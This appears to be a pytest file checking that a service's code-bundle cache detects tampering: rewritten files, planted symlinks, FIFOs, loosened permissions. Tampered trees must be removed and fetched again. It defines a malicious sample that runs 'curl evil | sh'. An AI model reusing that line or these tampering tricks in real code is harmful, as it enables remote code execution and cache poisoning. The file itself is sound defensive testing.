"""A host's cache of code bundles cannot be poisoned: a job runs as the same OS user as its
supervisor, so it can unlock a cached tree (``chmod u+w``) and change it for every later
job of that bundle on the host. Each fetch checks the cached tree against its digest (and
finds anything a fetch never leaves there: links, special files, unlocked modes); a tree
that fails is removed without following its links and fetched again from the store, by
one fetcher or several at once, on the workers' path and the API's."""

from __future__ import annotations

import io
import os
import shutil
import stat
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from service.api.app import create_app
from service.client import codepack
from service.database.db import Database
from service.files import code, codestore
from service.files.storage import FileStore
from service.settings import Settings
from tests.conftest import Api, Team

MODEL_PY = "def build(args):\n    return {}\n"
EVIL_PY = "import os\n\n\ndef build(args):\n    os.system('curl evil | sh')\n    return {}\n"
FILES = {"tiny/__init__.py": "", "tiny/model.py": MODEL_PY, "README": "a tiny bundle\n"}
LIMITS = code.Limits(10**7, 1000, 100.0)


def write_tree(root: Path, files: dict[str, str]) -> Path:
    for rel, text in files.items():
        (root / rel).parent.mkdir(parents=True, exist_ok=True)
        (root / rel).write_text(text)
    return root


@dataclass
class Host:
    store: FileStore
    cache: Path
    digest: str
    outside: Path  # a folder of the job's own, outside the cache

    @property
    def tree(self) -> Path:
        return self.cache / code.hex_of(self.digest)

    def fetch(self) -> Path:
        return codestore.fetch(self.store, self.cache, self.digest)


@pytest.fixture
def host(tmp_path: Path) -> Host:
    store = FileStore(tmp_path / "store")
    packed = codepack.pack(write_tree(tmp_path / "src", FILES))
    digest = codestore.upload(io.BytesIO(packed), store, tmp_path / "api-cache", LIMITS).digest
    outside = tmp_path / "outside"
    outside.mkdir()
    os.chmod(outside, 0o750)
    return Host(store, tmp_path / "host-cache", digest, outside)


def unlocked(path: Path) -> None:
    """What a job does first: the cached tree is read-only, but it is the job's user's."""
    os.chmod(path, stat.S_IMODE(os.lstat(path).st_mode) | 0o200)


def relock(path: Path) -> None:
    os.chmod(path, stat.S_IMODE(os.lstat(path).st_mode) & ~0o222)


def rewritten(h: Host) -> None:
    target = h.tree / "tiny" / "model.py"
    unlocked(target)
    target.write_text(EVIL_PY)
    relock(target)  # and covers its tracks


def extra_file(h: Host) -> None:
    unlocked(h.tree / "tiny")
    (h.tree / "tiny" / "sitecustomize.py").write_text("import os\n")
    relock(h.tree / "tiny")


def missing_file(h: Host) -> None:
    unlocked(h.tree)
    (h.tree / "README").unlink()
    relock(h.tree)


def linked_folder(h: Host) -> None:
    # A link to a folder is no file of the tree: the digest, walking files, never sees it.
    write_tree(h.outside / "evil", {"__init__.py": EVIL_PY})
    unlocked(h.tree)
    (h.tree / "evil").symlink_to(h.outside / "evil")
    relock(h.tree)


def linked_file(h: Host) -> None:
    # The same bytes today, through a link to a file the job can change at any time.
    (h.outside / "model.py").write_text(MODEL_PY)
    unlocked(h.tree / "tiny")
    (h.tree / "tiny" / "model.py").unlink()
    (h.tree / "tiny" / "model.py").symlink_to(h.outside / "model.py")
    relock(h.tree / "tiny")


def left_writable(h: Host) -> None:
    unlocked(h.tree / "tiny" / "model.py")  # unchanged yet, writable from now on


def locked_out(h: Host) -> None:
    os.chmod(h.tree / "tiny", 0)


def fifo(h: Host) -> None:
    # Reading it would block the fetch for ever.
    unlocked(h.tree)
    (h.tree / "README").unlink()
    os.mkfifo(h.tree / "README")
    relock(h.tree)


def swapped_for_a_link(h: Host) -> None:
    # The whole tree, identical for now, replaced by a link to the job's own copy.
    copy = h.outside / "copy"
    shutil.copytree(h.tree, copy)
    code.remove(h.tree)
    h.tree.symlink_to(copy)


def not_a_folder(h: Host) -> None:
    code.remove(h.tree)
    h.tree.write_text("nothing to see")


TAMPERINGS: list[Callable[[Host], None]] = [
    rewritten,
    extra_file,
    missing_file,
    linked_folder,
    linked_file,
    left_writable,
    locked_out,
    fifo,
    swapped_for_a_link,
    not_a_folder,
]


def assert_true_tree(h: Host, root: Path) -> None:
    assert root == h.tree and not root.is_symlink() and root.is_dir()
    assert code.files(root) == sorted(FILES)
    # Plain files (a FIFO would block the reads below) and folders anyone may read.
    assert all(stat.S_ISREG(os.lstat(root / rel).st_mode) for rel in FILES)
    assert all(stat.S_IMODE(os.lstat(d).st_mode) == 0o555 for d in (root, root / "tiny"))
    assert all((root / rel).read_text() == text for rel, text in FILES.items())
    assert not os.path.lexists(root / "evil")
    # Read-only again, and nothing half-done or set aside left in the cache.
    assert all(not (root / rel).stat().st_mode & 0o222 for rel in FILES)
    assert sorted(p.name for p in h.cache.iterdir()) == [root.name]


@pytest.mark.parametrize("tamper", TAMPERINGS, ids=[t.__name__ for t in TAMPERINGS])
def test_a_tampered_cached_tree_is_never_handed_out_and_is_fetched_again(
    host: Host, tamper: Callable[[Host], None]
) -> None:
    assert_true_tree(host, host.fetch())
    tamper(host)
    assert_true_tree(host, host.fetch())
    # Removing the bad tree followed none of its links: the job's own folder is as it was.
    assert stat.S_IMODE(os.stat(host.outside).st_mode) == 0o750
    assert all(p.exists() for p in host.outside.rglob("*"))


def test_an_intact_cached_tree_is_handed_out_as_it_is_without_the_store(host: Host) -> None:
    first = host.fetch()
    inode = first.stat().st_ino
    host.store.delete(codestore.key_for(host.digest))
    again = host.fetch()
    assert again == first and again.stat().st_ino == inode


def test_a_tampered_cached_tree_whose_store_object_is_bad_too_is_refused_and_removed(
    host: Host, tmp_path: Path
) -> None:
    host.fetch()
    rewritten(host)
    other = write_tree(tmp_path / "other", {**FILES, "tiny/model.py": EVIL_PY})
    codestore.pack(other, tmp_path / "other.tar")
    host.store.put_file(codestore.key_for(host.digest), tmp_path / "other.tar")
    with pytest.raises(codestore.BundleCorrupt) as raised:
        host.fetch()
    assert "digest mismatch" in raised.value.message
    assert list(host.cache.iterdir()) == []  # the poisoned tree did not stay for a retry


def test_fetchers_of_a_tampered_tree_at_once_all_get_the_true_one(host: Host) -> None:
    host.fetch()
    rewritten(host)
    start = threading.Barrier(4)
    got: list[Path] = []
    errors: list[BaseException] = []

    def fetcher() -> None:
        start.wait()
        try:
            got.append(host.fetch())
        except BaseException as exc:
            errors.append(exc)

    threads = [threading.Thread(target=fetcher) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=60)
    assert errors == [] and len(got) == 4
    assert_true_tree(host, got[0])


def test_the_api_checks_an_entry_point_in_the_true_tree_not_a_tampered_one(
    settings: Settings, db: Database, team: Team
) -> None:
    with TestClient(create_app(settings, db, auth=True)) as c:
        admin = Api(c, team.admin)
        packed = codepack.pack(write_tree(settings.home / "src", FILES))
        digest = admin.post("/v1/code", files={"file": ("b.tar.gz", packed)}).json()["digest"]
        cached = settings.resolved_code_dir() / code.hex_of(digest) / "tiny" / "model.py"
        unlocked(cached)
        cached.write_text("def other(args):\n    return {}\n")  # no build any more
        spec = {"code": {"bundle": digest, "entrypoint": "tiny.model:build"}}
        r = admin.post("/v1/jobs?dry_run=true", json=spec)
        assert r.status_code == 200, r.text
        assert cached.read_text() == MODEL_PY
